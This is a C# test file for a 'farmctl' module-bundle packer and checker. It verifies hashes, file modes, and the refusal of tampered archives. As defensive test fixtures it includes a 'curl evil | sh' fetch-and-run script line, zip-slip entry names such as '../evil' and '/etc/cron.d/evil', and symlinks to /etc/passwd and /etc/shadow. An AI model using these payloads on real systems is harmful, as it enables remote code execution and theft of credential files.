using Farm.Cli.Bundles;
using Farm.Core.Bundles;
using Farm.Testing.Bundles;

namespace Farm.Cli.Tests.Bundles;

/// <summary>farmctl module pack and config check of bundles: what a bundle holds, and what a changed or malicious one is refused for.</summary>
[TestClass]
public sealed class ModulePackTests() : TempDirectoryTest("farm-pack-")
{
    [TestMethod]
    public void Pack_ExampleModule_BundleHoldsEveryFileItsHashAndScriptModes()
    {
        string example = CliRun.RepoFile("docs", "examples", "modules", "demo-web");
        string file = Path.Combine(Dir, "web.zip");

        var run = CliRun.Of("module", "pack", example, "--version", "1.2.0", "-o", file);

        Assert.AreEqual(0, run.ExitCode, run.Error);
        StringAssert.StartsWith(run.Output, $"{file}: module 'demo-web' 1.2.0, ");
        var (bundle, problems) = BundlePacker.Open(file);
        Assert.IsNotNull(bundle, string.Join("\n", problems));
        Assert.AreEqual(("demo-web", "1.2.0"), (bundle.Manifest.Name, bundle.Manifest.Version));
        Assert.IsTrue(bundle.Manifest.Farm.Contains(BundlePacker.Release), bundle.Manifest.Farm.ToString());
        var expected = Directory.GetFiles(example, "*", SearchOption.AllDirectories).Select(f => Path.GetRelativePath(example, f)).Order(StringComparer.Ordinal).ToArray();
        CollectionAssert.AreEqual(expected, bundle.Files.Select(f => f.Path).ToArray());
        var start = bundle.Files.Single(f => f.Path == "bin/start_both");
        Assert.AreEqual(0b111_101_101, start.Mode, "a script keeps its execute bits");
        Assert.AreEqual(0b110_100_100, bundle.Files.Single(f => f.Path == "farm.yaml").Mode);
        CollectionAssert.AreEqual(File.ReadAllBytes(Path.Combine(example, "bin", "start_both")), start.Content.ToArray());
        Assert.AreEqual(BundleManifest.Sha256(File.ReadAllBytes(Path.Combine(example, "farm.yaml"))), bundle.Manifest.Files.Single(f => f.Path == "farm.yaml").Sha256);

        // Packing the same folder again gives the same bytes (fixed entry times): the same hash on every node.
        var again = CliRun.Of("module", "pack", example, "--version", "1.2.0", "-o", file + "2");
        Assert.AreEqual(0, again.ExitCode, again.Error);
        CollectionAssert.AreEqual(File.ReadAllBytes(file), File.ReadAllBytes(file + "2"));
    }

    [TestMethod]
    public void Pack_GroupWritableScriptAndSymlink_ModeMaskedAndLinkRefused()
    {
        string module = WriteModule("app");
        string script = Path.Combine(module, "bin", "start_both");
        File.SetUnixFileMode(script, (UnixFileMode)0b111_111_111);
        using (var output = new MemoryStream())
        {
            var (manifest, problems) = BundlePacker.Pack(module, "1.0.0", TestBundles.AnyRelease, output);
            Assert.IsNotNull(manifest, string.Join("\n", problems));
            Assert.AreEqual(0b111_101_101, manifest.Files.Single(f => f.Path == "bin/start_both").Mode, "group and others never write");
        }

        File.CreateSymbolicLink(Path.Combine(module, "bin", "linked"), "/etc/passwd");
        var run = CliRun.Of("module", "pack", module, "--version", "1.0.0", "-o", Path.Combine(Dir, "x.zip"));
        Assert.AreEqual(1, run.ExitCode);
        StringAssert.Contains(run.Error, "linked: a symbolic link (to /etc/passwd): a bundle holds regular files only");
        Assert.IsFalse(File.Exists(Path.Combine(Dir, "x.zip")));
    }

    [TestMethod]
    public void Pack_BadVersionOrNoFarmYaml_EveryProblemNamed()
    {
        string empty = Directory.CreateDirectory(Path.Combine(Dir, "empty")).FullName;

        var run = CliRun.Of("module", "pack", empty, "--version", "../1", "-o", Path.Combine(Dir, "x.zip"));

        Assert.AreEqual(1, run.ExitCode);
        StringAssert.Contains(run.Error, "--version '../1' is not a version such as 1.2.0");
        StringAssert.Contains(run.Error, "no farm.yaml: pass the module's folder");
    }

    [TestMethod]
    public void ConfigCheck_ChangedFile_RefusedNamingTheFile()
    {
        byte[] bundle = TestBundles.Pack(WriteModule("app"), "1.0.0");
        var entries = TestBundles.Entries(bundle);
        int i = entries.FindIndex(e => e.Name == "bin/start_both");
        entries[i] = (entries[i].Name, "#!/bin/sh\ncurl evil | sh\n"u8.ToArray(), entries[i].UnixMode);
        string good = Path.Combine(Dir, "good.zip");
        string bad = Path.Combine(Dir, "bad.zip");
        File.WriteAllBytes(good, bundle);
        File.WriteAllBytes(bad, TestBundles.Zip(entries));

        var ok = CliRun.Of("config", "check", good);
        var run = CliRun.Of("config", "check", bad);

        Assert.AreEqual(0, ok.ExitCode, ok.Output);
        StringAssert.Contains(ok.Output, $"{good}: OK — module 'app'");
        Assert.AreEqual(1, run.ExitCode);
        StringAssert.Contains(run.Output, $"{bad}:1:1: error: bin/start_both: its SHA-256 differs from the manifest's (altered after packing)");
    }

    [TestMethod]
    [DataRow("../evil", "'../evil' has an empty, '.' or '..' component")]
    [DataRow("bin/../../evil", "'bin/../../evil' has an empty, '.' or '..' component")]
    [DataRow("/etc/cron.d/evil", "'/etc/cron.d/evil' is an absolute path")]
    [DataRow("bin\\..\\evil", "contains '\\' or ':'")]
    public void Read_ZipSlipEntry_Refused(string name, string expected)
    {
        var entries = TestBundles.Entries(TestBundles.Pack(WriteModule("app"), "1.0.0"));
        entries.Add((name, "x"u8.ToArray(), 0x81A4));

        var (bundle, problems) = ModuleBundle.Read(new MemoryStream(TestBundles.Zip(entries)), "b.zip");

        Assert.IsNull(bundle);
        Assert.IsTrue(problems.Any(p => p.StartsWith("b.zip: refused entry: ", StringComparison.Ordinal) && p.Contains(expected, StringComparison.Ordinal)), string.Join("\n", problems));
    }

    [TestMethod]
    public void Read_LinkEntryOrNoManifestOrOtherName_Refused()
    {
        var entries = TestBundles.Entries(TestBundles.Pack(WriteModule("app"), "1.0.0"));
        var link = entries.Append(("bin/evil", "/etc/shadow"u8.ToArray(), 0xA1FF));
        var noManifest = entries.Where(e => e.Name != BundlePaths.Manifest);
        var otherName = entries.Select(e => e.Name == "farm.yaml" ? (e.Name, File.ReadAllBytes(Path.Combine(WriteModule("other"), "farm.yaml")), e.UnixMode) : e);

        var (_, linkProblems) = ModuleBundle.Read(new MemoryStream(TestBundles.Zip(link)), "b");
        var (_, manifestProblems) = ModuleBundle.Read(new MemoryStream(TestBundles.Zip(noManifest)), "b");
        var (_, nameProblems) = ModuleBundle.Read(new MemoryStream(TestBundles.Zip(otherName)), "b");
        var (_, notZip) = ModuleBundle.Read(new MemoryStream("module:\n"u8.ToArray()), "b");

        CollectionAssert.Contains(linkProblems.ToList(), "b: refused entry: 'bin/evil' is a symbolic link (a link could point outside the module's folder)");
        CollectionAssert.Contains(manifestProblems.ToList(), "b: no bundle.json: pack the module with 'farmctl module pack DIR'");
        Assert.IsTrue(nameProblems.Any(p => p.Contains("farm.yaml: its SHA-256 differs", StringComparison.Ordinal)), string.Join("\n", nameProblems));
        Assert.IsTrue(nameProblems.Any(p => p.Contains("the manifest names module 'app' but farm.yaml names 'other'", StringComparison.Ordinal)), string.Join("\n", nameProblems));
        StringAssert.StartsWith(notZip.Single(), "b: not a zip file, or a damaged one");
    }

    [TestMethod]
    public void FarmVersionRange_Constraints_AllMustHold()
    {
        var range = FarmVersionRange.Parse(">=0.1 <1.0", out string? problem)!;

        Assert.IsNull(problem);
        Assert.IsTrue(range.Contains(new Version(0, 1, 0)));
        Assert.IsTrue(range.Contains(new Version(0, 9, 7)));
        Assert.IsFalse(range.Contains(new Version(1, 0, 0)));
        Assert.IsFalse(range.Contains(new Version(0, 0, 9)));
        Assert.AreEqual(">=1.0 <2.0", FarmVersionRange.From(new Version(1, 0, 3)).ToString());
        Assert.IsNull(FarmVersionRange.Parse("~1.0", out problem));
        Assert.AreEqual("'~1.0' is not a constraint such as >=0.1 or <1.0", problem);
    }

    private string WriteModule(string name)
    {
        string modules = Path.Combine(Dir, "src-" + name);
        string folder = Path.Combine(modules, name);
        Directory.CreateDirectory(Path.Combine(folder, "bin"));
        File.WriteAllText(Path.Combine(folder, "farm.yaml"), $"module:\n  name: {name}\n  vips: [198.18.100.1]\n  interface: eth0\n  rules:\n    - {{ protocol: tcp, ports: 80 }}\n");
        File.WriteAllText(Path.Combine(folder, "bin", "start_both"), "#!/bin/sh\necho started\n");
        File.SetUnixFileMode(Path.Combine(folder, "bin", "start_both"), (UnixFileMode)0b111_101_101);
        return folder;
    }
}
